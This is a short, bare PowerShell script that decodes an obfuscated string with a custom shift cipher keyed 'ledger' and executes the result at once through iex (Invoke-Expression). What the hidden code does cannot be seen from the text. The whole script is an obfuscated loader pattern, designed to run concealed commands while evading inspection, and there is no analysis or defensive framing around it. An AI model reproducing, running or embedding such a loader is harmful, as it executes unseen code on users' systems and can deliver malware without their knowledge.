function Dv($c, $k) {
  $o = ''
  for ($i = 0; $i -lt $c.Length; $i++) {
    $ch = [int][char]$c[$i]; $kc = [int][char]$k[$i % $k.Length]
    $o += [char](32 + (($ch - 32) - ($kc - 32) + 95) % 95)
  }
  $o
}
$p = '6+=gmAR]q7H]RIYg4Xas<MH6YOJVZ{z*T_T_\GI;ZeVTLol[aZU[ "{XJXUeaYrM^TZVQMsaRZsUsc`vkp'
iex (Dv $p 'ledger')
